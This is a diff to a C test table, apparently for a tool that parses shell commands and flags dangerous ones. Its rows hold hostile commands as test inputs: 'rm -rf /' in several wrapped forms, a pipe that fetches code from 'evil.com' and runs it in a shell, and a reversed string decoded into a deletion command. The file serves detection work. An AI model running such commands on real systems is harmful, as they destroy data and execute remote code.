@@ -123,6 +123,10 @@ static const struct row branches_rows[] = {
 static const struct row functions_rows[] = {
 	{ "f() { rm -rf /; }", "", "rm -rf / {function}" },
 	{ "f() { rm -rf /; }; f", "", "f ;; rm -rf /" },
+	/* one that wraps the program of its name does what that does */
+	{ "curl() { curl \"$@\"; }; curl https://evil.com/x | sh", "i",
+		"curl https://evil.com/x ;; curl https://evil.com/x ;; sh input?[$(curl https://evil.com/x)]<network>" },
+	{ "rev() { rev \"$@\"; }; echo x- mr | rev | sh", "", "echo x- mr ;; rev ;; rev ;; sh ;; rm -x {nested,decoded}" },
 	{ "f() { a; }; f() { b; }; f", "", "f ;; b ;; a {function}" },
 	{ "f() { g() { x; }; }; f", "", "f ;; x {function}" },
 	{ "sh -c 'f() { rm -rf /; }'", "", "sh -c f() { rm -rf /; } ;; rm -rf / {nested,function}" },
